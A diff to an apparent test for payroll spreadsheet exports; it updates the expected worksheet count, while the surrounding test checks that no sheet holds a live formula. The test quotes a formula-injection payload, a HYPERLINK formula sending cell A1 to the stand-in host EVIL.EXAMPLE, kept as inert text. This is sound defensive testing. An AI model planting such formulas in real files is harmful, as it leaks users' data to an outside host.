@@ -170,7 +170,7 @@ describe('payroll files never carry a live formula (issue 26 item 7)', () => {
 
     const parts = zipEntries(response.bytes);
     const sheets = [...parts].filter(([name]) => /^xl\/worksheets\/sheet\d+\.xml$/.test(name));
-    expect(sheets).toHaveLength(3);
+    expect(sheets).toHaveLength(4); // with 'Registro', the record chain's head
     for (const [name, xml] of sheets) expect({ name, formula: /<f[\s>/]/.test(xml.toString('utf8')) }).toEqual({ name, formula: false });
     expect(parts.get('xl/sharedStrings.xml')!.toString('utf8')).toContain('<t>=HYPERLINK("HTTP://EVIL.EXAMPLE/?X="&amp;A1;"VER")</t>');
   });
